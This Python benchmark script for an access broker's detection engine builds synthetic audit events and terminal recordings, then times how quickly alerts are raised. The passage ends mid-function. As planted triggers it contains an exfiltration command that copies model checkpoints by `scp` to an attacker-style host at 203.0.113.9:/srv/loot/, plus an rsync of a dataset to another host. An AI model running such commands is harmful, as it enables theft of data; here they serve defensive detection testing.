"""Detection benchmarks (issue 9): rule throughput, and the delay from an event to its alert.

    .venv/bin/python bench/detect_bench.py [--events 1000000] [--gb 1.0] [--recordings 64]
        [--runs 3] [--rounds 30] [--noise-rate 20] [--output-rate 8]
        [--parts audit,sessions,delay]

1. audit: a store holding EVENTS audit events as the broker writes them (MFA checks, grants
   with their hostlists, pushes, nodes' session open/close/deny, recorded sessions, and the
   rest), spread over 14 days, 2,000 users on 1,024 nodes, with planted bursts that must
   raise alerts. Events are chained with the real hash function (so `broker audit verify`
   walks them) but inserted with executemany in transactions of 50,000, not one
   `writer.record` each. The detector then judges them all, pass after pass (`App.detect`,
   50,000 events a pass (BATCH), each pass committing its alerts, drift jobs, cursor and
   memory),
   each pass given the time of the last event it reads as `now`, as when it runs live.
   Against: a plain read of the same rows (SELECT + json.loads of the details).
2. sessions: GB of output (ttyout, or stdout for non-terminal sessions) in RECORDINGS
   finished recordings in sudo_logsrvd's layout, with typed input, indexed by the real
   Indexer; then the detector reads every byte through the rules. Planted `scp` and
   `apt-get install` lines must raise their alerts, and nothing else may. Against: the
   same bytes merely read, the engine (Hyperscan) alone, the rules' Python regexes alone
   (the detector before the engine, on a 64 MiB sample), and `grep -E -c` of the
   same patterns (GNU grep, C). The page cache is warm, as for sessions just written.
3. delay: the daemon's way (a thread calling `App.detect` every 1.0 s, one indexing every
   1.0 s as in the lab, another writing background audit events), and at random moments
   a trigger: a burst of 5 wrong MFA codes for a fresh user (5 transactions), an `scp`
   line appended to a running recording's ttyin, or a new recording whose first input is
   one. The delay runs from the trigger's commit or write to the moment another
   connection sees the alert row (polled every 5 ms). Goal: <= 2 s. With --output-rate (8 MB/s
   unless told; 0 for none),
   one more running session writes that many MB/s of output meanwhile (the detector reads
   session bytes and audit events in the same pass, so its cost lands on both paths).
   After the audit part, the delay runs on its store (the million events judged, the
   detector's memory full); alone, on a fresh store.
"""

from __future__ import annotations

import argparse
import json
import multiprocessing
import os
import random
import shutil
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from broker.app import App
from broker.audit import writer
from broker.audit.chain import make_event
from broker.config.loader import settings_from_dict
from broker.core.timeutil import from_text, to_text, utcnow
from broker.daemon.scheduler import DETECT_EVERY_S
from broker.detect.alerts import load_state
from broker.detect.content import ContentMatcher
from broker.detect.runner import BATCH
from broker.policy.detection_rules import DEFAULT
from broker.sessions import iolog

USERS = 2000
NODES = 1024
SPAN = timedelta(days=14)
INSERT_BATCH = 50_000
QUARANTINED = "gpu9999"  # a node under quarantine that only planted sessions touch
GOAL_DELAY_S = 2.0
Event = tuple[str, str, str, str, str, dict[str, Any]]  # ts, actor, action, target, outcome


def make_settings(state: Path, iolog_dir: Path) -> Any:
    return settings_from_dict(
        {
            "broker": {"state_dir": str(state), "service_user": "root"},
            "audit": {"syslog": False},
            "sessions": {"store_dir": str(iolog_dir)},
        },
        source="bench",
    )


def fresh_app(state: Path, iolog_dir: Path) -> App:
    app = App(make_settings(state, iolog_dir))
    app.setup().init("unix:bench")
    return app


def node(n: int) -> str:
    return f"gpu{n:04d}"


def hostlist(numbers: Iterable[int]) -> str:
    nums = sorted(set(numbers))
    if len(nums) == 1:
        return node(nums[0])
    return "gpu[" + ",".join(f"{n:04d}" for n in nums) + "]"


# ---------------------------------------------------------------- audit events


KINDS = ("mfa_ok", "mfa_bad", "issue", "push", "open", "close", "deny", "recorded", "system")
WEIGHTS = (12.0, 0.8, 8.0, 8.0, 22.0, 22.0, 0.7, 2.0, 24.5)


@dataclass
class Population:
    """Who works when and where: each user has 3 home nodes and a 9-hour working day."""

    rng: random.Random
    users: list[str] = field(default_factory=list)
    home: dict[str, list[int]] = field(default_factory=dict)
    by_hour: list[list[str]] = field(default_factory=list)
    opened: Counter[str] = field(default_factory=Counter)
    grant: dict[str, str] = field(default_factory=dict)

    @classmethod
    def make(cls, rng: random.Random) -> Population:
        pop = cls(rng)
        pop.users = [f"u{i:04d}" for i in range(USERS)]
        start = {}
        for user in pop.users:
            first = rng.randint(1, NODES - 8)
            pop.home[user] = [first, first + rng.randint(1, 3), first + rng.randint(4, 7)]
            start[user] = rng.randint(6, 10)
        pop.by_hour = [
            [u for u in pop.users if start[u] <= hour < start[u] + 9] for hour in range(24)
        ]
        return pop

    def grant_id(self) -> str:
        return f"g{self.rng.getrandbits(64):016x}"

    def event(self, t: float, ts: str, live: bool = False) -> Event:
        """One background event at time t (live: any user, at any hour)."""
        rng = self.rng
        users = self.users if live else self.by_hour[int(t // 3600) % 24]
        kind = rng.choices(KINDS, WEIGHTS)[0] if users else "system"
        if kind == "system":
            return self.system(ts)
        user = rng.choice(users)
        home = self.home[user]
        sid = f"S-1-5-21-1004336348-1177238915-682003330-{10000 + int(user[1:])}"
        if kind in ("mfa_ok", "mfa_bad"):
            details: dict[str, Any] = {"sid": sid, "purpose": "elevate"}
            if kind == "mfa_bad":
                details["reason"] = rng.choice(("wrong code", "wrong code", "malformed code"))
            outcome = "ok" if kind == "mfa_ok" else "refused"
            return ts, f"unix:{user}", "mfa.verify", user, outcome, details
        if kind == "issue":
            self.grant[user] = gid = self.grant_id()
            nodes = hostlist(rng.sample(home, rng.randint(1, 3)))
            return ts, f"unix:{user}", "grant.issue", gid, "ok", {
                "user": user, "nodes": nodes, "role": "gpu-admin", "runas": "root",
                "commands": "ALL", "not_before": ts, "not_after": ts, "reason": "INC-20931 driver",
                "approvers": [], "request": None, "policy_sha256": "5e" * 32,
            }  # fmt: skip
        gid = self.grant.get(user) or self.grant_id()
        if kind == "push":
            live_nodes = hostlist(rng.sample(home, rng.randint(1, 3)))
            return ts, "broker", "grant.push", gid, "ok", {"live": live_nodes, "failed": {}}
        if kind in ("open", "close", "deny"):
            k = self.opened[user]
            if kind == "open":
                self.opened[user] += 1
            at = home[k % 3] if kind == "open" else home[(k - 1) % 3]
            return ts, f"node:{node(at)}", f"session.{kind}", gid if kind != "deny" else "-", (
                "refused" if kind == "deny" else "ok"
            ), {
                "known_grant": kind != "deny", "break_glass": False, "user": user,
                "runas": "root", "tty": f"pts/{rng.randint(0, 12)}",
                "pid": rng.randint(1000, 4_000_000), "at": ts, "service": "sudo",
            }  # fmt: skip
        rid = f"{rng.randrange(36**6):06d}"[-6:]
        digest = f"{rng.getrandbits(256):064x}"
        return ts, f"node:{node(home[0])}", "session.recorded", rid, "ok", {
            "sha256": digest, "files": {"log.json": digest[:16], "timing": digest[16:32],
                                        "ttyin": digest[32:48], "ttyout": digest[48:]},
            "user": user, "runas": "root", "grant": gid, "end": "exit 0",
        }  # fmt: skip

    def system(self, ts: str) -> Event:
        rng = self.rng
        pick = rng.randrange(5)
        user = rng.choice(self.users)
        if pick == 0:
            return ts, "broker", "directory.sync", "dc01.example.org", "ok", {
                "mode": "incremental", "usn": rng.randint(10**6, 10**7),
                "changed": rng.randint(0, 4),
            }  # fmt: skip
        if pick == 1:
            return ts, "broker", "grant.expire", self.grant_id(), "ok", {
                "user": user, "nodes": hostlist(self.home[user][:2])
            }  # fmt: skip
        if pick == 2:
            return ts, f"unix:{user}", "request.create", f"r{rng.getrandbits(40):010x}", "ok", {
                "user": user, "nodes": hostlist(self.home[user]), "role": "gpu-admin",
                "minutes": 60, "reason": "INC-20931 driver",
            }  # fmt: skip
        if pick == 3:
            return ts, f"unix:{user}", "mfa.enroll", user, "ok", {"factor": "totp"}
        return ts, "broker", "session.collect", node(rng.randint(1, NODES)), "ok", {
            "events": rng.randint(0, 6)
        }  # fmt: skip


@dataclass
class Plan:
    """Bursts planted in the timeline, and the alerts they must raise."""

    at: dict[int, list[Event]] = field(default_factory=dict)
    expected: set[tuple[str, str]] = field(default_factory=set)

    def add(self, index: int, events: list[Event]) -> None:
        self.at.setdefault(index, []).extend(events)


def plan_bursts(n: int, start: float, step: float) -> Plan:
    plan = Plan()
    per_kind = max(1, min(10, n // 20_000))

    def ts_at(i: int) -> str:
        return to_text(datetime.fromtimestamp(start + i * step, UTC))

    def session(user: str, where: str, ts: str, action: str = "session.open") -> Event:
        outcome = "refused" if action == "session.deny" else "ok"
        target = "-" if action == "session.deny" else "g00000000000000aa"
        return ts, f"node:{where}", action, target, outcome, {
            "known_grant": outcome == "ok", "break_glass": False, "user": user, "runas": "root",
            "tty": "pts/4", "pid": 4242, "at": ts, "service": "sudo",
        }  # fmt: skip

    for j in range(per_kind):
        base = int(n * (j + 0.5) / per_kind)
        i = base
        user = f"x-mfa-{j}"
        plan.add(i, [
            (ts_at(i), f"unix:{user}", "mfa.verify", user, "refused",
             {"sid": "S-1-5-21-9", "purpose": "elevate", "reason": "wrong code"})
        ] * 5)  # fmt: skip
        plan.expected.add(("mfa-failures", user))
        i = base + 101
        user = f"x-deny-{j}"
        plan.add(i, [session(user, node(17), ts_at(i), "session.deny")] * 3)
        plan.expected.add(("sudo-without-grant", user))
        i = base + 202
        user = f"x-spread-{j}"
        plan.add(i, [(ts_at(i), f"unix:{user}", "grant.issue", "g00000000000000bb", "ok",
                      {"user": user, "nodes": "gpu[0001-0020]", "role": "gpu-admin"})])  # fmt: skip
        plan.expected.add(("many-nodes", user))
        i = base + 303
        user = f"x-origin-{j}"
        plan.add(i, [session(user, node(33), ts_at(i))] * 6 + [session(user, node(34), ts_at(i))])
        plan.expected.add(("new-origin", user))
        i = base + 404
        user = f"x-quar-{j}"
        plan.add(i, [session(user, QUARANTINED, ts_at(i))])
        plan.expected.add(("quarantined-session", user))
        # Off hours: a dozen elevations around 10:00 on the first days, then one at 03:00.
        user = f"x-hours-{j}"
        for day in range(13):
            hour = 10 + day % 3 if day < 12 else 3
            t = day * 86400 + hour * 3600 + j * 97
            i = min(n - 1, int(t / step))
            plan.add(i, [(ts_at(i), f"unix:{user}", "grant.issue", f"g{day:016x}", "ok",
                          {"user": user, "nodes": node(50), "role": "gpu-admin"})])  # fmt: skip
        plan.expected.add(("off-hours", user))
    return plan


def timeline(n: int, start: float, step: float, plan: Plan, seed: int) -> Iterator[Event]:
    pop = Population.make(random.Random(seed))
    for i in range(n):
        t = start + i * step
        yield from plan.at.get(i, ())
        yield pop.event(t, to_text(datetime.fromtimestamp(t, UTC)))


def append_chain(app: App, events: Iterable[Event]) -> int:
    """Append the events to the chain (real hashes), INSERT_BATCH rows a transaction."""
    store = app.ready_store()
    seq, prev = writer.head(store.conn)
    rows: list[tuple[Any, ...]] = []
    count = 0

    def flush() -> None:
        with store.transaction() as conn:
            conn.executemany(
                "INSERT INTO audit_events (seq, ts, actor, action, target, outcome, details,"
                " prev_hash, hash) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
                rows,
            )
        rows.clear()

    for ts, actor, action, target, outcome, details in events:
        seq += 1
        e = make_event(seq=seq, ts=ts, actor=actor, action=action, target=target,
                       outcome=outcome, details=details, prev_hash=prev)  # fmt: skip
        prev = e.hash
        rows.append((e.seq, e.ts, e.actor, e.action, e.target, e.outcome, e.details,
                     e.prev_hash, e.hash))  # fmt: skip
        count += 1
        if len(rows) >= INSERT_BATCH:
            flush()
    if rows:
        flush()
    return count


def build_audit_state(base: Path, n: int) -> tuple[Path, Plan, int]:
    state = base / "audit-state"
    end = (time.time() // 86400) * 86400  # the last midnight: the 14 days end before now
    start = end - SPAN.total_seconds()
    step = SPAN.total_seconds() / n
    app = fresh_app(state, base / "no-iolog")
    # Detection watches from its first pass on: begin before the history is written.
    app.detection().run(datetime.fromtimestamp(start, UTC))
    with app.ready_store().transaction() as conn:
        stamp = to_text(datetime.fromtimestamp(start, UTC))
        conn.execute(
            "INSERT INTO quarantines (node, state, reason, since, by, marker, error, updated_at)"
            " VALUES (?, 'quarantined', 'bench', ?, 'unix:ir', 'placed', NULL, ?)",
            (QUARANTINED, stamp, stamp),
        )
    plan = plan_bursts(n, start, step)
    began = time.perf_counter()
    total = append_chain(app, timeline(n, start, step, plan, seed=9))
    took = time.perf_counter() - began
    size = (state / "broker.db").stat().st_size
    app.close()
    print(
        f"built: {total:,} audit events ({n:,} background + {total - n} planted) over "
        f"{SPAN.days} days in {took:.1f} s (chained with real hashes, executemany in "
        f"transactions of {INSERT_BATCH:,}); store {size / 1e6:.0f} MB"
    )
    return state, plan, total


@dataclass
class AuditRun:
    events: int
    seconds: float
    passes: list[float]
    alerts: list[tuple[str, str | None]]
    jobs: int
    memory_bytes: int
    memory_io_s: float


def audit_run(state: Path) -> AuditRun:
    app = App(make_settings(state, state.parent / "no-iolog"))
    conn = app.ready_store().conn
    passes: list[float] = []
    judged = jobs = 0
    while True:
        cursor = int((load_state(conn) or {"cursor": 0})["cursor"])
        row = conn.execute(
            "SELECT ts FROM audit_events WHERE seq <= ? ORDER BY seq DESC LIMIT 1",
            (cursor + BATCH,),
        ).fetchone()
        now = from_text(row[0])  # the time of the last event this pass reads
        began = time.perf_counter()
        report = app.detection().run(now)
        passes.append(time.perf_counter() - began)
        judged += report.events
        jobs += report.jobs
        if report.events == 0:
            break
    alerts = conn.execute("SELECT rule, user FROM alerts ORDER BY id").fetchall()
    raw = conn.execute("SELECT value FROM detect_state WHERE key = 'detector'").fetchone()[0]
    began = time.perf_counter()
    json.dumps(json.loads(raw), separators=(",", ":"))
    memory_io = time.perf_counter() - began
    app.close()
    return AuditRun(judged, sum(passes), passes, alerts, jobs, len(raw), memory_io)


def plain_read(state: Path) -> float:
    """Read every event as the runner does (same query, same batches) and parse its
    details: the floor under the detector."""
    conn = sqlite3.connect(state / "broker.db")
    began = time.perf_counter()
    cursor, count = 0, 0
    while True:
        rows = conn.execute(
            "SELECT seq, ts, actor, action, target, outcome, details FROM audit_events"
            " WHERE seq > ? ORDER BY seq LIMIT ?",
            (cursor, BATCH),
        ).fetchall()
        if not rows:
            break
        for row in rows:
            json.loads(row[6])
        cursor = rows[-1][0]
        count += len(rows)
    took = time.perf_counter() - began
    conn.close()
    return count / took


def bench_audit(args: argparse.Namespace, base: Path) -> tuple[dict[str, Any], Path]:
    state, plan, total = build_audit_state(base, args.events)
    runs: list[AuditRun] = []
    keep = base / "audit-last"
    for run in range(args.runs):
        work = base / f"audit-run{run}"
        shutil.copytree(state, work)
        result = audit_run(work)
        runs.append(result)
        rate = total / result.seconds
        print(
            f"run {run + 1}: {result.events:,} events judged in {len(result.passes)} passes,"
            f" {result.seconds:.2f} s = {rate:,.0f} events/s; {len(result.alerts)} alerts,"
            f" {result.jobs:,} drift jobs"
        )
        if run == args.runs - 1:
            work.rename(keep)
        else:
            shutil.rmtree(work)
    floors = [plain_read(state) for _ in range(args.runs)]
    shutil.rmtree(state)
    first = runs[0]
    raised = set(first.alerts)
    missing = sorted(plan.expected - raised)
    noise = Counter(rule for rule, user in first.alerts if not (user or "").startswith("x-"))
    planted = Counter(rule for rule, user in first.alerts if (user or "").startswith("x-"))
    print(f"planted bursts: {len(plan.expected) - len(missing)} of {len(plan.expected)} raised")
    print("  planted alerts by rule: " + ", ".join(f"{r} {c}" for r, c in sorted(planted.items())))
    print("  background alerts by rule: " + (
        ", ".join(f"{r} {c}" for r, c in sorted(noise.items())) or "none"))  # fmt: skip
    if missing:
        print(f"MISSING planted alerts: {missing}")
    ordered = sorted(first.passes[:-1]) or [0.0]
    print(
        f"  pass of {BATCH:,} events: median {statistics.median(ordered):.3f} s,"
        f" max {ordered[-1]:.3f} s; detector memory {first.memory_bytes / 1e3:.0f} kB of JSON"
        f" ({first.memory_io_s * 1e3:.1f} ms to load and save once)"
    )
    results = {
        "events": total,
        "rate": statistics.median(total / r.seconds for r in runs),
        "floor": statistics.median(floors),
        "missing": missing,
    }
    return results, keep


# ---------------------------------------------------------------- session output

COMMANDS = ("ls -la", "df -h /data", "nvidia-smi", "tail -n 50 train.log", "du -sh run7",
            "cat /proc/meminfo", "systemctl status slurmd", "journalctl -u slurmd -n 20",
            "free -g", "ps aux --sort=-%mem", "ip -br a", "lsblk")  # fmt: skip
EXFIL_LINE = b"scp /data/checkpoints/run%d/step-9000.pt eve@203.0.113.9:/srv/loot/\r"
INSTALL_LINE = b"apt-get install -y htop\r"
DEEP_LINE = b"root@gpu0032:~# rsync -a /data/datasets/imagenet/ backup01:/srv/\r\n"
BLOCK = 1 << 20
WRITE = 4096  # bytes per timing entry, as a busy terminal writes
RE_SAMPLE = 64 << 20  # Python's re, the engine before Hyperscan, is timed on this much
GOAL_SESSION_MBS = 300.0
GOAL_AUDIT_EVS = 250_000.0


def output_lines(rng: random.Random) -> list[bytes]:
    """Lines a root shell on a GPU node shows: training logs, ls, nvidia-smi, kernel and
    slurmd messages, NCCL chatter, prompts with the commands echoed."""
    lines = []
    for _ in range(4000):
        k = rng.randrange(8)
        n, pid = rng.randint(1, NODES), rng.randint(1000, 4_000_000)
        step = rng.randrange(0, 200_000, 50)
        if k == 0:
            line = (
                f"[2026-11-23 {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:"
                f"{rng.randint(0, 59):02d}] epoch {rng.randint(0, 90)} step {step} loss "
                f"{rng.random() * 4:.4f} lr {rng.random() * 1e-3:.2e} grad_norm "
                f"{rng.random() * 9:.3f} tokens/s {rng.randint(10_000, 900_000)}"
            )
        elif k == 1:
            line = (
                f"Saved checkpoint to /data/checkpoints/run{rng.randint(1, 40)}/step-{step}.pt"
                f" ({rng.randint(100, 90_000)} MiB) in {rng.random() * 60:.1f}s"
            )
        elif k == 2:
            line = (
                f"-rw-r--r-- 1 root root {rng.randint(0, 10**11):>12} Nov 23 "
                f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d} "
                f"\x1b[01;32mstep-{step}.pt\x1b[0m"
            )
        elif k == 3:
            line = (
                f"|   {rng.randint(0, 7)}  NVIDIA H100 80GB HBM3          On  | "
                f"00000000:{rng.randint(0, 255):02X}:00.0 Off |                    0 |"
            )
        elif k == 4:
            line = (
                f"[{rng.random() * 10**6:>12.6f}] mlx5_core 0000:{rng.randint(0, 255):02x}:00.0:"
                f" mlx5_fw_tracer_handle_traces:{rng.randint(100, 900)}: FW tracer event"
                f" 0x{rng.getrandbits(32):08x}"
            )
        elif k == 5:
            line = (
                f"Nov 23 {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:"
                f"{rng.randint(0, 59):02d} {node(n)} slurmd[{pid}]: launch task StepId="
                f"{rng.randint(10**5, 10**7)}.0 request from UID:{rng.randint(1000, 60000)}"
                f" GID:{rng.randint(1000, 60000)} HOST:10.1.{rng.randint(0, 255)}."
                f"{rng.randint(0, 255)} PORT:{rng.randint(1024, 65535)}"
            )
        elif k == 6:
            line = (
                f"\x1b[01;31mroot@{node(n)}\x1b[00m:\x1b[01;34m/data/checkpoints\x1b[00m# "
                f"{rng.choice(COMMANDS)}"
            )
        else:
            rank = rng.randint(0, 63)
            line = (
                f"{node(n)}:{pid}:{pid + rng.randint(1, 90)} [{rank % 8}] NCCL INFO Channel"
                f" {rng.randint(0, 31):02d}/32 : {rank} -> {(rank + 1) % 64} via P2P/IPC/read"
            )
        lines.append(line.encode())
    rules = [r.regex for r in DEFAULT.rules.values() if r.regex is not None]
    return [line for line in lines if not any(rx.search(line) for rx in rules)]


def output_blocks(rng: random.Random, count: int = 16) -> list[bytes]:
    lines = output_lines(rng)
    blocks = []
    for _ in range(count):
        chosen = rng.choices(lines, k=BLOCK // 60)
        block = b"\r\n".join(chosen) + b"\r\n"
        blocks.append(block[:BLOCK])
    return blocks


def log_json(n: int, *, done: bool, pipe: bool = False) -> dict[str, Any]:
    data: dict[str, Any] = {
        "timestamp": {"seconds": int(time.time()) - 3600, "nanoseconds": 0},
        "submituser": f"u{n:04d}", "runuser": "root", "submithost": node(n),
        "command": "/usr/bin/python3" if pipe else "/usr/bin/bash",
        "runargv": ["python3", "train.py", "--resume"] if pipe else ["-bash"],
        "runcwd": "/root", "columns": 200, "lines": 50,
    }  # fmt: skip
    if not pipe:
        data["ttyname"] = "/dev/pts/3"
    if done:
        data["run_time"] = {"seconds": 3500, "nanoseconds": 0}
        data["exit_value"] = 0
    return data


def write_recording(
    root: Path, n: int, size: int, blocks: list[bytes], rng: random.Random
) -> tuple[int, list[str]]:
    """A finished recording of `size` output bytes; returns (bytes written, planted rules)."""
    rid = f"{n:06d}"
    path = root / iolog.seq_path(rid)
    path.mkdir(parents=True)
    pipe = n % 8 == 5
    planted: list[str] = []
    timing: list[str] = []
    if not pipe:
        typed = [f"{rng.choice(COMMANDS)}\r".encode() for _ in range(12)]
        if n % 16 == 3:
            typed.insert(6, EXFIL_LINE % n)
            planted.append("exfiltration")
        if n % 32 == 7:
            typed.insert(3, INSTALL_LINE)
            planted.append("software-install")
        (path / "ttyin").write_bytes(b"".join(typed))
        timing += [f"3 {rng.random() * 3:.6f} {len(t)}" for t in typed]
    name, kind = ("stdout", 1) if pipe else ("ttyout", 4)
    written = 0
    deep = n == 32
    with open(path / name, "wb") as out:
        b = n
        while written < size:
            block = blocks[b % len(blocks)][: size - written]
            b += 1
            if deep and written >= size // 2:
                block, deep = DEEP_LINE + block, False
                planted.append("exfiltration")
            out.write(block)
            written += len(block)
    full, rest = divmod(written, WRITE)
    timing += [f"{kind} 0.{rng.randrange(10**6):06d} {WRITE}"] * full
    if rest:
        timing.append(f"{kind} 0.010000 {rest}")
    (path / "timing").write_text("\n".join(timing) + "\n")
    (path / "timing").chmod(0o400)
    (path / "log.json").write_text(json.dumps(log_json(n, done=True, pipe=pipe)))
    return written, sorted(set(planted))


class StallProbe:
    """A thread that asks to wake every millisecond, as the daemon's request threads wait
    on their sockets; how late it wakes is how long another thread held the GIL."""

    def __init__(self) -> None:
        self.late: list[float] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self.stop.is_set():
            began = time.perf_counter()
            time.sleep(0.001)
            self.late.append(time.perf_counter() - began - 0.001)

    def __enter__(self) -> StallProbe:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join()


def session_rate(
    state: Path, store: Path
) -> tuple[float, int, int, list[tuple[str, str]], list[float]]:
    app = App(make_settings(state, store))
    total = passes = 0
    with StallProbe() as probe:
        began = time.perf_counter()
        while True:
            report = app.detection().run(utcnow())
            passes += 1
            total += report.bytes
            if report.bytes == 0 and report.recordings == 0:
                break
        took = time.perf_counter() - began
    alerts = app.ready_store().conn.execute("SELECT rule, recording_id FROM alerts").fetchall()
    app.close()
    return total / took / 1e6, total, passes, alerts, probe.late


def read_floor(files: list[Path]) -> tuple[float, float, float]:
    """MB/s of merely reading the files in 1 MiB chunks, of the engine alone over the same
    chunks (\\r -> \\n included, no store, no Python re), and of the rules' Python regexes
    alone (the detector before Hyperscan) over the first RE_SAMPLE bytes."""
    matcher = ContentMatcher([r for r in DEFAULT.rules.values() if r.kind == "session_match"])
    regexes = [r.regex for r in DEFAULT.rules.values() if r.regex is not None]

    def engine(text: bytes, kind: str) -> None:
        for _ in matcher.hits(kind, text.replace(b"\r", b"\n"), lambda _rule: True):
            pass

    def python_re(text: bytes, _kind: str) -> None:
        text = text.replace(b"\r", b"\n")
        for rx in regexes:
            rx.search(text)

    rates = []
    for judge, limit in ((None, None), (engine, None), (python_re, RE_SAMPLE)):
        total = 0
        began = time.perf_counter()
        for path in files:
            kind = "input" if path.name == "ttyin" else "output"
            fd = os.open(path, os.O_RDONLY)
            try:
                offset = 0
                while (limit is None or total + offset < limit) and (
                    data := os.pread(fd, BLOCK, offset)
                ):
                    offset += len(data)
                    if judge is not None:
                        judge(data, kind)
            finally:
                os.close(fd)
            total += offset
            if limit is not None and total >= limit:
                break
        rates.append(total / (time.perf_counter() - began) / 1e6)
    return rates[0], rates[1], rates[2]


def grep_rate(files: list[Path]) -> float | None:
    patterns = [p for r in DEFAULT.rules.values() if r.kind == "session_match" for p in r.patterns]
    argv = ["grep", "-E", "-c", *(a for p in patterns for a in ("-e", p)), *map(str, files)]
    total = sum(f.stat().st_size for f in files)
    began = time.perf_counter()
    done = subprocess.run(argv, capture_output=True, env={**os.environ, "LC_ALL": "C"})
    if done.returncode not in (0, 1):
        return None
    return total / (time.perf_counter() - began) / 1e6


def bench_sessions(args: argparse.Namespace, base: Path) -> dict[str, Any]:
    store = base / "iolog"
    store.mkdir()
    rng = random.Random(7)
    blocks = output_blocks(rng)
    per = int(args.gb * 1e9 / args.recordings)
    state = base / "sessions-state"
    app = fresh_app(state, store)
    app.detection().run(utcnow())  # detection begins; then the recordings arrive
    began = time.perf_counter()
    written, expected = 0, set()
    for n in range(1, args.recordings + 1):
        size, planted = write_recording(store, n, per, blocks, rng)
        written += size
        expected |= {(rule, f"{n:06d}") for rule in planted}
    wrote = time.perf_counter() - began
    began = time.perf_counter()
    indexed = app.session_indexer().run(utcnow() + timedelta(seconds=1))
    took = time.perf_counter() - began
    app.close()
    assert len(indexed.finished) == args.recordings, indexed
    files = sorted(p for p in store.rglob("*") if p.name in ("ttyin", "ttyout", "stdout"))
    print(
        f"built: {args.recordings} finished recordings, {written / 1e6:,.0f} MB of output"
        f" (written in {wrote:.1f} s), indexed in {took:.1f} s; page cache warm"
    )
    rates, alerts_seen = [], []
    for run in range(args.runs):
        work = base / f"sessions-run{run}"
        shutil.copytree(state, work)
        rate, total, passes, alerts, late = session_rate(work, store)
        shutil.rmtree(work)
        rates.append(rate)
        alerts_seen = alerts
        print(
            f"run {run + 1}: {total / 1e6:,.0f} MB through the rules in {passes} passes"
            f" = {rate:.1f} MB/s; {len(alerts)} alerts; another thread's 1 ms sleeps woke"
            f" late by median {statistics.median(late) * 1e3:.1f} ms, p99"
            f" {pct(late, 0.99) * 1e3:.0f} ms, max {max(late) * 1e3:.0f} ms"
        )
    raised = {(rule, rid) for rule, rid in alerts_seen}
    missing, extra = sorted(expected - raised), sorted(raised - expected)
    print(f"planted matches: {len(expected) - len(missing)} of {len(expected)} raised"
          f" ({', '.join(f'{r} {c}' for r, c in sorted(Counter(r for r, _ in raised).items()))}),"
          f" {len(extra)} unexpected")  # fmt: skip
    if missing or extra:
        print(f"MISSING {missing}  UNEXPECTED {extra}")
    read, engine, python_re = read_floor(files)
    grep = grep_rate(files)
    shutil.rmtree(state)
    shutil.rmtree(store)
    return {
        "bytes": written,
        "rate": statistics.median(rates),
        "read": read,
        "engine": engine,
        "python_re": python_re,
        "grep": grep,
        "missing": missing + extra,
    }


# ---------------------------------------------------------------- delay


def busy_session(path: Path, rate: float) -> None:
    """A busy session, in its own process as sudo_logsrvd is: `rate` MB/s appended to a
    running recording's ttyout (64 KiB writes, each with its timing line)."""
    chunk = 1 << 16
    data = b"".join(output_blocks(random.Random(3), count=2))
    every = chunk / (rate * 1e6)
    with open(path / "ttyout", "ab") as out, open(path / "timing", "a") as timing:
        at, offset = time.monotonic(), 0
        while True:
            out.write(data[offset : offset + chunk])
            out.flush()
            timing.write(f"4 0.010000 {chunk}\n")
            timing.flush()
            offset = (offset + chunk) % (len(data) - chunk)
            at += every
            time.sleep(max(0.0, at - time.monotonic()))


class Daemonish:
    """The daemon's detection, indexing and a background writer, each its own thread and
    App (connection), paced as broker.daemon.scheduler paces them."""

    def __init__(
        self, settings: Any, noise_rate: float, output_rate: float, busy: Path | None
    ) -> None:
        self.settings = settings
        self.stop = threading.Event()
        self.passes: list[float] = []
        self.pass_bytes: list[int] = []
        self.errors: list[str] = []
        self.noise_rate = noise_rate
        self.output_rate = output_rate
        self.busy = busy
        self.threads = [
            threading.Thread(target=self._detect, daemon=True),
            threading.Thread(target=self._index, daemon=True),
            threading.Thread(target=self._noise, daemon=True),
        ]
        self.writer: multiprocessing.Process | None = None
        if busy is not None and output_rate > 0:
            self.writer = multiprocessing.get_context("fork").Process(
                target=busy_session, args=(busy, output_rate), daemon=True
            )

    def __enter__(self) -> Daemonish:
        if self.writer is not None:
            self.writer.start()  # before any thread: a clean fork
        for t in self.threads:
            t.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        if self.writer is not None:
            self.writer.terminate()
            self.writer.join()
        for t in self.threads:
            t.join(timeout=30)

    def _detect(self) -> None:
        app = App(self.settings)
        wait = DETECT_EVERY_S
        try:
            while not self.stop.wait(wait):
                began = time.perf_counter()
                try:
                    report = app.detection().run(utcnow())
                except Exception as exc:  # noqa: BLE001 (the daemon logs it and goes on)
                    self.errors.append(f"detect: {exc!r}")
                    continue
                self.passes.append(time.perf_counter() - began)
                self.pass_bytes.append(report.bytes)
                wait = 0.0 if report.events >= BATCH else DETECT_EVERY_S
        finally:
            app.close()

    def _index(self) -> None:
        app = App(self.settings)
        try:
            while not self.stop.wait(1.0):
                try:
                    app.session_indexer().run(utcnow())
                except Exception as exc:  # noqa: BLE001 (likewise)
                    self.errors.append(f"index: {exc!r}")
        finally:
            app.close()

    def _noise(self) -> None:
        """Background audit events, one transaction each, as API calls write them."""
        app = App(self.settings)
        store = app.ready_store()
        pop = Population.make(random.Random(9))  # the same homes as the history
        rng = random.Random(12)
        try:
            while not self.stop.wait(rng.expovariate(self.noise_rate)):
                now = utcnow()
                _, actor, action, target, outcome, details = pop.event(
                    now.timestamp(), to_text(now), live=True
                )
                with store.transaction() as conn:
                    writer.record(
                        conn, writer.EventInput(actor, action, target, outcome, details), now
                    )
        finally:
            app.close()


def running_recording(root: Path, n: int, staging: Path, first_input: bytes = b"ls\r") -> Path:
    """A running recording (timing still writable, no exit in log.json), put in place at
    once: written in `staging`, then renamed into the store."""
    rid = f"{n:06d}"
    final = root / iolog.seq_path(rid)
    final.parent.mkdir(parents=True, exist_ok=True)
    work = staging / rid
    work.mkdir()
    prompt = b"\x1b[01;31mroot@gpu0007\x1b[00m:~# "
